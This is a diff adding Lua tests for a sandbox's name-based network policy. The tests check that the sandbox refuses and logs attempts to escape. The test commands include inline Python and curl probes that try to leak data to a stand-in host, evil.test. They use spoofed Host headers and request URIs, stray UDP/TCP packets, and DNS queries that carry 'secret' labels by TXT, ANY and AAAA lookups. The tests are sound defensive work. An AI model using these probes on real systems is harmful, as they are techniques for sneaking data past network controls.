@@ -141,6 +141,12 @@ describe("network by name without the proxy variables", function()
         .. "False; c.verify_mode = ssl.CERT_NONE; c.wrap_socket(socket.create_connection("
         .. "(\"ok.test\", 443)), server_hostname=\"evil.test\")' 2>&1 | tail -1"),
       "curl -sS --noproxy '*' http://" .. OK_ADDR .. "/z",
+      ("python3 -c 'import socket; s = socket.create_connection((\"ok.test\", 80)); "
+        .. "s.sendall(b\"GET http://evil.test/w HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n\"); "
+        .. "print(s.recv(99).split(b\"\\r\\n\")[0].decode())'"),
+      ("python3 -c 'import socket; s = socket.create_connection((\"ok.test\", 80)); "
+        .. "s.sendall(b\"GET http://evil.test/v HTTP/1.0\\r\\n\\r\\n\"); "
+        .. "print(s.recv(99).split(b\"\\r\\n\")[0].decode())'"),
       "true" }, "; ") }, { cwd = "/", timeout = 30,
       env = { PATH = PATH, HOME = "/tmp" }, sandbox = { mode = "read-only", network = net } })
     uv.run("nowait")
@@ -159,8 +165,188 @@ describe("network by name without the proxy variables", function()
       "connect ok.test:443 refused: the TLS server name names evil.test, not the name looked "
         .. "up (pid N python3)",
       "http " .. OK_ADDR .. ":80 refused: an IP address not in network.allow (pid N curl)",
+      "http ok.test:80 refused: the Host header names \"ok.test\", not the request's "
+        .. "\"evil.test\" (pid N python3)",
+      "http ok.test:80 refused: the request's URI names evil.test, not the name looked up "
+        .. "(pid N python3)",
     }, lines)
     assert.same({}, r.sandbox.network.allowed)
+  end)
+end)
+
+describe("network by name: what leads nowhere is recorded", function()
+  if skip then
+    it("runs where it can", function() pending("skipped: " .. skip) end)
+    return
+  end
+  -- A UDP server on addr:port counting the datagrams it gets.
+  local function udp_counter(addr, port)
+    local s = { got = 0 }
+    s.udp = uv.new_udp()
+    assert(s.udp:bind(addr, port))
+    s.udp:recv_start(function(_, data) if data then s.got = s.got + 1 end end)
+    function s.close() s.udp:close() end
+    return s
+  end
+
+  it("refuses TCP to 53, UDP to 443 and 80 and to the proxy's port, with the transport in "
+    .. "the record; an answered DNS query and an allowed connect are no record", function()
+    local tcp53 = assert(counter(OK_ADDR, 53, HELLO))
+    local udp443, udp80 = udp_counter(OK_ADDR, 443), udp_counter(OK_ADDR, 80)
+    local udp3128 = udp_counter("127.0.0.1", 3128)
+    local ok80 = assert(counter(OK_ADDR, 80, HELLO))
+    local py = table.concat({
+      "import socket, sys",
+      "def tcp(a, p):",
+      "    try: socket.create_connection((a, p), 3); print('tcp', p, 'connected')",
+      "    except OSError as e: print('tcp', p, e.errno)",
+      "def udp(a, p, msg=False):",
+      "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)",
+      "    try:",
+      "        if msg: s.sendmsg([b'x'], [], 0, (a, p))",
+      "        else: s.sendto(b'x', (a, p))",
+      "        print('udp', p, 'sent')",
+      "    except OSError as e: print('udp', p, e.errno)",
+      "tcp(sys.argv[1], 53); udp(sys.argv[1], 443); udp('198.51.100.7', 80, True)",
+      "udp('127.0.0.1', 3128)" }, "\n")
+    local r = luxec.run({ "sh", "-c", "getent ahostsv4 ok.test | head -1; "
+      .. "curl -sS --noproxy '*' http://ok.test/; python3 -c \"$0\" " .. OK_ADDR, py },
+      { cwd = "/", timeout = 30, env = { PATH = PATH, HOME = "/tmp" },
+        sandbox = { mode = "read-only", network = { allow = { "ok.test" },
+          resolve = { ["ok.test"] = OK_ADDR } } } })
+    uv.run("nowait")
+    for _, s in ipairs({ tcp53, udp443, udp80, udp3128, ok80 }) do s.close() end
+    assert.matches("^198%.18%.%d+%.%d+%s+STREAM ok%.test\nplain\ntcp 53 1\nudp 443 1\n"
+      .. "udp 80 1\nudp 3128 1\n$", r.output)
+    assert.same({ 0, 0, 0, 0, 1 }, { tcp53.conns, udp443.got, udp80.got, udp3128.got,
+      ok80.conns })
+    local lines = {}
+    for _, d in ipairs(r.sandbox.denials) do
+      if d.addr then lines[#lines + 1] = sandbox.describe(d):gsub("pid %d+", "pid N") end
+    end
+    local because = " refused: only the proxy leads out (network by name) (pid N python3)"
+    assert.same({
+      ("connect %s:53/tcp"):format(OK_ADDR) .. because,
+      ("sendto %s:443/udp"):format(OK_ADDR) .. because,
+      "sendmsg 198.51.100.7:80/udp" .. because,
+      "sendto 127.0.0.1:3128/udp" .. because,
+    }, lines)
+    assert.same({ ["ok.test"] = 1 }, r.sandbox.network.allowed)
+    assert.same({}, r.sandbox.network.refused)
+  end)
+end)
+
+describe("network by name: no name leaves by DNS", function()
+  local skip3 = skip or not have("unshare") and "unshare (util-linux) is not installed"
+  if skip3 then
+    it("runs where it can", function() pending("skipped: " .. skip3) end)
+    return
+  end
+  it("answers TXT, ANY, AAAA and long names inside; the host's resolver sees only the names "
+    .. "the proxy connects to", function()
+    -- the host's resolver, for a luxec host whose /etc/resolv.conf names it: every name it is
+    -- asked is kept, each answered NXDOMAIN
+    local ns_addr = ("127.%d.77.3"):format(tag)
+    local asked = {}
+    local up = uv.new_udp()
+    assert(up:bind(ns_addr, 53))
+    up:recv_start(function(_, data, from)
+      if not data or #data < 12 then return end
+      local labels, pos = {}, 13
+      while data:byte(pos) and data:byte(pos) > 0 do
+        labels[#labels + 1] = data:sub(pos + 1, pos + data:byte(pos))
+        pos = pos + data:byte(pos) + 1
+      end
+      asked[#asked + 1] = table.concat(labels, ".")
+      up:send(data:sub(1, 2) .. "\x81\x83\0\1\0\0\0\0\0\0" .. data:sub(13, pos + 4),
+        from.ip, from.port)
+    end)
+    local dir = H.tmpdir()
+    H.write_file(dir .. "/resolv.conf", "nameserver " .. ns_addr .. "\n")
+    H.write_file(dir .. "/dns.py", table.concat({
+      "import socket, struct",
+      "def q(name, qtype):",
+      "    m = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0)",
+      "    for l in name.split('.'): m += bytes([len(l)]) + l.encode()",
+      "    m += b'\\0' + struct.pack('>HH', qtype, 1)",
+      "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)",
+      "    s.sendto(m, (open('/etc/resolv.conf').read().split()[1], 53))",
+      "    a = s.recv(4096)",
+      "    print(name[:12], qtype, a[3] & 15, struct.unpack('>H', a[6:8])[0])",
+      "q('secret-' + 'a' * 56 + '.evil.test', 1)",
+      "q('b' * 64 + '.evil.test', 1)",
+      "q('txt-secret.evil.test', 16); q('any-secret.evil.test', 255)",
+      "q('aaaa-secret.evil.test', 28)", "" }, "\n"))
+    local code = ([[
+      local luxec, json = require("luxec"), require("luxec.json")
+      local r = luxec.run({"sh", "-c", "python3 %s/dns.py; "
+        .. "curl -sS http://proxied-secret.evil.test/ 2>&1 | head -1; "
+        .. "curl -sS --noproxy '*' https://transparent-secret.evil.test/ 2>/dev/null; "
+        .. "curl -sS http://up.test/ 2>&1 | head -1"}, {cwd = "/", timeout = 30,
+        env = {PATH = %q, HOME = "/tmp"}, sandbox = {mode = "read-only",
+        network = {allow = {"ok.test", "up.test"}, resolve = {["ok.test"] = %q}}}})
+      local refused = {}
+      for i, d in ipairs(r.sandbox.network.refused) do
+        refused[i] = require("luxec.sandbox").describe(d):gsub("pid %%d+", "pid N")
+      end
+      io.write(json.encode({output = r.output, refused = refused}), "\n")
+    ]]):format(dir, PATH, OK_ADDR)
+    local r = H.run({ cmd = "unshare", "-m", "--propagation", "private", "sh", "-c",
+      'mount --bind "$0" /etc/resolv.conf && exec "$@"', dir .. "/resolv.conf", H.luxec,
+      "-e", code }, { env = { "PATH=" .. PATH, "HOME=/tmp" }, timeout = 60000 })
+    up:close()
+    H.rmtree(dir)
+    assert(not r.timed_out and r.code == 0, r.stderr)
+    local res = json.decode(r.stdout)
+    assert.equals(table.concat({ "secret-aaaaa 1 0 1", "bbbbbbbbbbbb 1 1 0",
+      "txt-secret.e 16 0 0", "any-secret.e 255 0 0", "aaaa-secret. 28 0 0",
+      "luxec sandbox: http proxied-secret.evil.test:80 refused: not in network.allow",
+      "luxec sandbox: http up.test:80 failed: cannot resolve: EAI_NONAME", "" }, "\n"),
+      res.output)
+    assert.same({
+      "http proxied-secret.evil.test:80 refused: not in network.allow (pid N curl)",
+      "connect transparent-secret.evil.test:443 refused: not in network.allow (pid N curl)",
+    }, res.refused)
+    -- the host's resolver was asked for up.test alone (A and AAAA, maybe more than once)
+    assert.is_true(#asked > 0, "the host's resolver was never asked: the check sees nothing")
+    for _, name in ipairs(asked) do assert.equals("up.test", name) end
+  end)
+
+  it("refuses a name the host's resolver gives an address of the host's own (under \"*\")",
+    function()
+    local own
+    for _, list in pairs(uv.interface_addresses()) do
+      for _, a in ipairs(list) do
+        if a.family == "inet" and not a.ip:match("^127%.") then own = own or a.ip end
+      end
+    end
+    if not own then
+      pending("skipped: the host has no IPv4 address but loopback")
+      return
+    end
+    local srv = assert(counter(own, 0, HELLO))
+    local port = srv.tcp:getsockname().port
+    local dir = H.tmpdir()
+    H.write_file(dir .. "/hosts", ("127.0.0.1 localhost\n%s own.test\n"):format(own))
+    local code = ([[
+      local luxec = require("luxec")
+      local r = luxec.run({"curl", "-sS", "http://own.test:%d/"}, {cwd = "/", timeout = 20,
+        env = {PATH = %q, HOME = "/tmp"}, sandbox = {mode = "read-only",
+        network = {allow = {"*"}}}})
+      io.write(r.output, require("luxec.sandbox").describe(r.sandbox.network.refused[1]), "\n")
+    ]]):format(port, PATH)
+    local r = H.run({ cmd = "unshare", "-m", "--propagation", "private", "sh", "-c",
+      'mount --bind "$0" /etc/hosts && exec "$@"', dir .. "/hosts", H.luxec, "-e", code },
+      { env = { "PATH=" .. PATH, "HOME=/tmp" }, timeout = 60000 })
+    srv.close()
+    H.rmtree(dir)
+    assert(not r.timed_out and r.code == 0, r.stderr)
+    local reason = ("resolves to %s (an address of this host: list the address to allow it)")
+      :format(own)
+    assert.equals(("luxec sandbox: http own.test:%d refused: %s\n"):format(port, reason)
+      .. ("http own.test:%d refused: %s (pid N curl)\n"):format(port, reason),
+      (r.stdout:gsub("pid %d+", "pid N")))
+    assert.equals(0, srv.conns, "the host's own address was reached")
   end)
 end)
 
@@ -220,6 +406,21 @@ describe("the transparent path's reading of DNS queries and TLS server names", f
     assert.is_nil(transparent.dns_answer(names, "short"))
     assert.equals(string.pack(">I2I2I2I2I2I2", 9, 0x8181, 0, 0, 0, 0), -- (FORMERR)
       transparent.dns_answer(names, query(9, "x.test", 1):sub(1, 20)))
+  end)
+
+  it("keeps a bounded table of names: past MAX_NAMES the oldest name's address is reused",
+    function()
+    local names = transparent.new()
+    local saved = transparent.MAX_NAMES
+    transparent.MAX_NAMES = 3
+    finally(function() transparent.MAX_NAMES = saved end)
+    local got = {}
+    for i = 1, 5 do got[i] = transparent.address(names, "n" .. i .. ".test") end
+    assert.same({ "198.18.0.2", "198.18.0.3", "198.18.0.4", "198.18.0.2", "198.18.0.3" }, got)
+    assert.same({ "n4.test", "n5.test", "n3.test" }, { transparent.name_of(names, got[1]),
+      transparent.name_of(names, got[2]), transparent.name_of(names, got[3]) })
+    assert.same({ ["n3.test"] = "198.18.0.4", ["n4.test"] = "198.18.0.2",
+      ["n5.test"] = "198.18.0.3" }, names.by_name)
   end)
 
   it("reads the server name of a real ClientHello (python's ssl), and only of one", function()
